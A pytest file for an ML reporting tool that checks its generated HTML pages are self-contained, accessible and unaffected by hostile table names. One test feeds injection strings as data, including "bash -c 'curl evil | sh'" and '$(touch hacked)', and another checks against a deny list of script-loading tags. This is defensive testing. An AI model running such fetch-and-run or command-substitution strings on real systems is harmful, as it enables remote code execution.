"""The page: whole, small, quiet whatever names a table brings, the same for the same twin, and readable."""

from __future__ import annotations

import copy
import json
import re
import shlex
from dataclasses import replace
from html.parser import HTMLParser
from xml.etree import ElementTree

import numpy as np
import pytest
from page_checks import PAYLOADS, contrast, mixed, payload, properties

import glasshouse as gh
from glasshouse.cli.train import train
from glasshouse.drawing.look import palette
from glasshouse.drawing.svg import COLORS, drawn, slot
from glasshouse.drawing.words import plain
from glasshouse.reporting.html import page
from glasshouse.reporting.twin import ALONE, to_paste
from glasshouse.tables.cells import Cells
from glasshouse.tables.reading import Table

VOID = {"meta", "br", "img", "hr", "link", "input"}
LIMIT = 600_000
POLICY = "default-src 'none'; style-src 'unsafe-inline'; img-src data:"


class Elements(HTMLParser):
    """Every element as (tag, names of its attributes), in order; balanced, or an error."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, tuple[str, ...]]] = []
        self.values: list[tuple[str, str]] = []
        self.open: list[str] = []
        self.ids: list[str] = []
        self.headings: list[int] = []
        self.feed(html)
        self.close()
        assert not self.open

    def handle_starttag(self, tag, attrs):
        self.handle_startendtag(tag, attrs)
        if tag not in VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.found.append((tag, tuple(sorted(name for name, _ in attrs))))
        self.values += [(name, value or "") for name, value in attrs]
        self.ids += [value or "" for name, value in attrs if name == "id"]
        if re.fullmatch("h[1-6]", tag):
            self.headings.append(int(tag[1]))

    def handle_endtag(self, tag):
        assert self.open.pop() == tag


@pytest.fixture(scope="module")
def pruned():
    """A report with nearly every part: pruned, of classes, with a wiring and a frontier."""
    model = gh.train("example:wine", target="target", hidden=(8,), epochs=8, baselines=False, out="")
    return gh.report(
        gh.prune(model, "example:wine", density=0.3, epochs=1, one_shot=True, compare=True, out=""), "example:wine"
    )


@pytest.fixture(scope="module")
def trained():
    return gh.report(gh.train("example:diabetes", target="target", hidden=(8,), epochs=8, out=""))


def check(html: str) -> Elements:
    """What holds of every page."""
    found = Elements(html)
    assert len(html.encode()) < LIMIT
    assert html.startswith('<!DOCTYPE html>\n<html lang="en">')
    assert f'http-equiv="Content-Security-Policy" content="{POLICY}"' in html
    tags = {tag for tag, _ in found.found}
    assert not tags & {"script", "iframe", "link", "object", "embed", "base", "form", "img", "image", "foreignobject"}
    for name, value in found.values:
        assert not name.startswith("on")
        if name in ("href", "src", "srcset", "action"):
            assert value.startswith("#")
        if name in ("style", "clip-path"):
            assert not re.search(r"@import|url\((?!#)", value)
    assert not re.search(r"@import|url\(", "".join(re.findall(r"<style>(.*?)</style>", html, re.DOTALL)))
    assert len(found.ids) == len(set(found.ids))
    assert {value[1:] for name, value in found.values if name == "href"} <= set(found.ids)
    assert set(re.findall(r"url\(#([^)]*)\)", html)) <= set(found.ids)
    assert found.headings[0] == 1
    assert found.headings.count(1) == 1
    assert all(after <= before + 1 for before, after in zip(found.headings, found.headings[1:]))
    return found


def test_pages_are_whole_and_load_nothing(pruned, trained) -> None:
    for made in (pruned, trained):
        found = check(made.html)
        drawings = [names for tag, names in found.found if tag == "svg" and "role" in names]
        assert len(drawings) >= 5
        assert all("aria-label" in names for names in drawings)
        tables = sum(tag == "table" for tag, _ in found.found)
        assert sum(tag == "caption" for tag, _ in found.found) == tables
        assert all("scope" in names for tag, names in found.found if tag == "th")
    assert 'id="pruning"' in pruned.html
    assert 'id="pruning"' not in trained.html
    assert "boosted trees" in trained.html


def test_the_page_is_of_its_twin_alone(pruned, trained) -> None:
    for made in (pruned, trained):
        assert page(json.loads(json.dumps(made.twin))) == made.html


def test_the_same_model_is_the_same_page(here) -> None:
    for _ in range(2):
        gh.train("example:iris", target="target", hidden=(4,), epochs=3, baselines=False, out="m.glass")
    first, second = (gh.report("m.glass", "example:iris", out="") for _ in range(2))
    assert first.html == second.html


def test_no_color_of_a_drawing_is_fixed(pruned, trained) -> None:
    for made in (pruned, trained):
        body = made.html.partition("</style>")[2]
        assert not re.search(r"#[0-9a-f]{6}\b", re.sub(r'(href|url\()="?#[^")]*', "", body).replace("SHA", ""))
        assert set(re.findall(r"var\(--([a-z0-9-]+)\)", body)) <= set(COLORS)


def test_hostile_names_add_no_element_and_no_attribute(pruned, trained) -> None:
    """Every text of the twin that comes from a table, replaced by payloads: by each of them in one of the pages."""
    used = set()
    for start, made in zip(range(0, len(PAYLOADS), 40), (pruned, trained) * 3):
        twin = copy.deepcopy(made.twin)
        used |= set(range(start, poison(twin, start)))
        html = page(twin)
        assert check(html).found == Elements(made.html).found
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]", html)
    assert used >= set(range(len(PAYLOADS)))


def poison(twin, start: int) -> int:
    """Replace, in place, what a table has a say in; the number of the next payload."""
    count = iter(range(start, 10_000))

    def word(_=None):
        return payload(next(count))

    twin["model"] |= {"name": word(), "target": word(), "trained_on": word()}
    twin["rows"]["of"] = word()
    if twin["model"]["classes"]:
        twin["model"]["classes"] = [word() for _ in twin["model"]["classes"]]
        twin["judged"]["labels"] = [word() for _ in twin["judged"]["labels"]]
        for row in twin["classes"]:
            row["label"] = word()
    names = {column["name"]: word() for column in twin["table"]["columns"]}
    for part in ("table", "importance", "wiring"):
        for column in (twin[part] or {"columns": []})["columns"]:
            column["name"] = names[column["name"]]
    for column in twin["table"]["columns"]:
        column["becomes"] = column["kind"] = word()
        for level in (column["spread"] or {}).get("levels", []):
            level[0] = word()
    twin["table"] |= {"name": word(), "dialect": word(), "notes": [word()] * len(twin["table"]["notes"])}
    twin["surprises"] |= {key: {word(): 1} for key, value in twin["surprises"].items() if value}
    twin["network"]["inputs"] = {key: word() for key in twin["network"]["inputs"]}
    twin["network"]["outputs"] = [word() for _ in twin["network"]["outputs"]]
    twin["reproduction"]["commands"] = [word() for _ in twin["reproduction"]["commands"]]
    for finding in twin["health"]["findings"]:
        finding |= {"evidence": word(), "cause": word(), "remedy": word()}
    if twin["pruning"]:
        twin["pruning"]["no_longer_read"] = [word() for _ in twin["pruning"]["no_longer_read"]]
    twin["reproduction"]["by_hand"] = [word() for _ in twin["reproduction"]["by_hand"]]
    return next(count)


def hostile_table(rows: int = 240) -> Table:
    """Names, levels and labels are payloads: two hundred in all."""
    rng = np.random.default_rng(0)
    columns = {}
    for k in range(60):
        levels = np.array([payload(60 + 2 * k), payload(61 + 2 * k)], dtype=object)
        cells = levels[rng.integers(0, 2, rows)] if k % 2 else rng.normal(0, 1, rows).round(3).astype(str)
        columns[f"{payload(k)} {k}"] = Cells.of(list(cells))
    labels = [f"{payload(180 + k)} {k}" for k in range(14)]
    columns[payload(199)] = Cells.of([labels[k % 14] for k in range(rows)])
    return Table(payload(3), columns)


def test_a_hostile_table_is_reported_like_any_other() -> None:
    table = hostile_table()
    model = gh.train(table, target=payload(199), hidden=(6,), epochs=2, baselines=False, out="")
    made = gh.report(model)
    found = check(made.html)
    attributes = {name for _, names in found.found for name in names}
    assert attributes <= {
        *("lang", "charset", "name", "content", "http-equiv", "class", "href", "id", "aria-label", "aria-labelledby"),
        *("role", "tabindex", "scope", "style", "viewbox", "width", "height", "d", "clip-path", "x", "y", "transform"),
        "aria-hidden",
    }
    assert made.twin["model"]["target"] == payload(199)
    assert len(made.twin["table"]["columns"]) == 61


def test_a_wide_table_and_many_classes_stay_small() -> None:
    rng = np.random.default_rng(0)
    rows, wide, many = 240, 300, 120
    columns = {
        f"a long name of a column {k:04d}": Cells.of(rng.normal(0, 1, rows).round(4).astype(str).tolist())
        for k in range(wide)
    }
    columns["y"] = Cells.of([f"class number {k % many:03d}" for k in range(rows)])
    model = gh.train(Table("wide", columns), target="y", hidden=(20,), epochs=1, baselines=False, out="")
    made = gh.report(model)
    check(made.html)
    assert "241 more are in the twin" in made.html
    assert len(made.twin["table"]["columns"]) == wide + 1
    assert len(made.twin["judged"]["confusion"]["matrix"]) == many
    assert len(made.twin["importance"]["columns"]) == wide
    assert len(json.dumps(made.twin)) < 2_000_000


def test_a_name_in_a_drawing_is_text_whatever_it_holds() -> None:
    """All in one picture."""

    def draw(ax) -> None:
        for k in range(len(PAYLOADS)):
            ax.text(0.5, k / len(PAYLOADS), slot(k))

    found = ElementTree.fromstring(drawn("x", draw, "\n".join(PAYLOADS), names=PAYLOADS))
    assert not {element.tag for element in found.iter()} - {
        *("svg", "g", "path", "defs", "use", "text", "clipPath", "rect"),
    }
    texts = [element.text for element in found.iter("text")]
    assert texts[-len(PAYLOADS) :] == [plain(word, 28) for word in PAYLOADS]


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_color_of_text_can_be_read_on_its_ground(scheme) -> None:
    colors = properties(palette(), scheme)
    grounds = {"paper": colors["paper"], "far": colors["far"]}
    for name in ("ink", "muted", "accent", "right", "doubt", "wrong", *(f"series-{k}" for k in range(1, 7))):
        assert contrast(colors[name], grounds["paper"]) >= 4.5, (scheme, name)
    assert contrast(colors["ink"], grounds["far"]) >= 4.5
    for series, most in (("series-1", 0.26), ("series-2", 0.32)):  # cells of the matrix
        assert contrast(colors["ink"], mixed(colors[series], colors["paper"], most)) >= 4.5


@pytest.fixture(scope="module")
def ill():
    """A model whose findings have a command to paste."""
    options = {"hidden": (4,) * 12, "activation": "sigmoid", "learning_rate": 0.3, "epochs": 3, "baselines": False}
    return gh.train("example:iris", target="target", out="", **options)


@pytest.fixture(scope="module")
def findings(ill):
    """The two of them: one is cured by another activation, the other by a slower rate."""
    found = gh.diagnose(ill, "example:iris").findings
    assert [finding.kind for finding in found] == ["vanishing_gradient", "stuck_loss"]
    return found


def test_what_is_to_be_pasted_is_a_training_of_quoted_words(ill, findings) -> None:
    """Files of models come from anywhere: no words of theirs but those of a training, and each as one word."""
    begins = "glasshouse train example:iris --target target --hidden 4,4,4,4,4,4,4,4,4,4,4,4"
    assert [to_paste(finding, ill) for finding in findings] == [
        f"{begins} --learning-rate 0.3 --epochs 3 --activation relu",
        f"{begins} --activation sigmoid --epochs 3 --learning-rate 0.03",
    ]
    train_it, prune_it = "glasshouse train t.csv --target y", "glasshouse prune m.glass --density 0.1"
    evil = ("bash -c 'curl evil | sh'", "glasshouse", prune_it, "", "glasshouse train 'x", "glasshouse  trainer x")
    for made_by in (*((command,) for command in evil), (), (train_it, prune_it)):
        assert [to_paste(finding, replace(ill, made_by=made_by)) for finding in findings] == [None, None], made_by
    for word in ("$(touch hacked)", "; touch hacked", "`touch hacked`", "a\nb", "--activation", "--learning-rate"):
        words = ["glasshouse", "train", "t.csv", "--target", word, "--refit", "--seed", "3"]
        model = replace(ill, made_by=(shlex.join(words),))
        for finding, flags in zip(findings, (["--activation", "relu"], ["--learning-rate", "0.03"]), strict=True):
            assert shlex.split(to_paste(finding, model)) == [*words, *flags]


def test_what_is_said_anew_is_not_said_twice(ill, findings) -> None:
    asked = "glasshouse train t.csv --activation=sigmoid --target y --refit --activation tanh --epochs=3 --activation"
    model = replace(ill, made_by=(asked,))
    assert to_paste(findings[0], model) == "glasshouse train t.csv --target y --refit --epochs=3 --activation relu"
    assert to_paste(findings[1], model) == f"{asked} --learning-rate 0.03"


def test_options_without_a_value_are_those_of_train() -> None:
    assert set(ALONE) - {"--help"} == {
        word
        for option in train.params
        if getattr(option, "is_flag", False)
        for word in (*option.opts, *option.secondary_opts)
    }


def test_commands_are_bounded_on_the_page(trained) -> None:
    twin = copy.deepcopy(trained.twin)
    twin["reproduction"]["commands"] = ["glasshouse train " + '"' * 100_000] * 70
    twin["reproduction"]["by_hand"] = ["<b>" * 50_000] * 70
    finding = {
        **dict.fromkeys(("layer", "severity", "kind", "evidence", "cause", "remedy"), "x"),
        "paste": "&" * 100_000,
    }
    twin["health"]["findings"] = [finding] * 30
    html = page(twin)
    check(html)
    assert "… in the twin" in html
    assert "And 6 more, in the twin." in html


def test_the_page_promises_the_same_network_only_where_the_commands_give_it(trained) -> None:
    promise = "give the same network, to the last bit"
    assert promise in trained.html
    for change, said in (
        (
            {"by_hand": ["stopped in epoch 34", "learning rate <b>0.02</b> from step 12 on"]},
            "These commands alone do not",
        ),
        ({"commands": []}, "How this model was made is not known"),
        ({"commands": ["glasshouse prune m.glass --latency 3.0"]}, "decided by measured times"),
    ):
        twin = copy.deepcopy(trained.twin)
        twin["reproduction"] |= change
        html = page(twin)
        check(html)
        assert promise not in html
        assert said in html
        assert all(done.replace("<", "&lt;").replace(">", "&gt;") in html for done in change.get("by_hand", []))


def test_a_model_changed_by_hand_says_so(ill) -> None:
    done = ("stopped in epoch 3",)
    made = gh.report(replace(ill, run=None, by_hand=done), "example:iris", out="")
    assert made.twin["reproduction"]["by_hand"] == list(done)
    assert "These commands alone do not" in made.html


def said_of(model, **columns) -> tuple[str, str, dict]:
    """What the page says under the curves of a history."""
    names = {"loss": "loss", "validation": "validation_loss", "score": "validation_score"}
    count = len(columns["loss"])
    rows = [
        {"epoch": k + 1, "penalty": 0.0, "learning_rate": 0.1, **{names[name]: columns[name][k] for name in columns}}
        for k in range(count)
    ]
    made = gh.report(replace(model, run=None, history=tuple(rows)), "example:iris", out="")
    loss, score = (
        re.search(f"<p>({start}[^<]*)</p>", made.html)[1] for start in ("From epoch 1", "The accuracy of the")
    )
    return loss, score, made.twin["history"]


def test_the_words_under_curves_are_those_of_all_epochs(ill) -> None:
    loss, score, _ = said_of(ill, loss=[1.0, 2.0, 4.0], validation=[2.0, 2.5, 2.0], score=[0.5, 0.5, 0.5])
    assert (
        "the training loss rises from 1 to 4, the validation loss stays at 2; at its lowest it was 2, in epoch 1"
        in loss
    )
    assert "0.500 at the epoch that was kept, its highest." in score
    many = 1000
    scores, losses = np.full(many, 0.5), np.linspace(3, 2, many)
    scores[1], losses[3] = 0.99, 0.25  # of epochs that a curve of 400 points would not have
    loss, score, history = said_of(ill, loss=losses.tolist(), validation=losses.tolist(), score=scores.tolist())
    assert "the training loss falls from 3 to 2, the validation loss falls from 3 to 2" in loss
    assert "at its lowest it was 0.25, in epoch 4" in loss
    assert (history["lowest_loss"], history["highest_score"], history["epochs"]) == (4, 2, many)
    assert {2, 4, many} <= {row["epoch"] for row in history["rows"]}
    assert len(history["rows"]) <= 403
    assert "0.990 at its highest, in epoch 2" in score or "0.990 at the epoch that was kept, its highest" in score


def test_a_wide_layer_is_drawn_without_the_units_no_line_reaches(trained) -> None:
    twin = copy.deepcopy(trained.twin)
    layers = [{"units": 3, "activation": None}, *({"units": 20_000, "activation": "relu"} for _ in range(3))]
    edges = [[k, 0 if k == 1 else 7 * j, 7 * j, 0.1 + j] for k in (1, 2, 3) for j in range(80)]
    outputs = [f"class {k}" for k in range(20_000)]
    twin["network"] = {"layers": layers, "edges": edges, "connections": 10**8, "inputs": {"0": "x"}, "outputs": outputs}
    html = page(twin)
    check(html)
    assert "without the 59,760 units that none of them reaches" in html
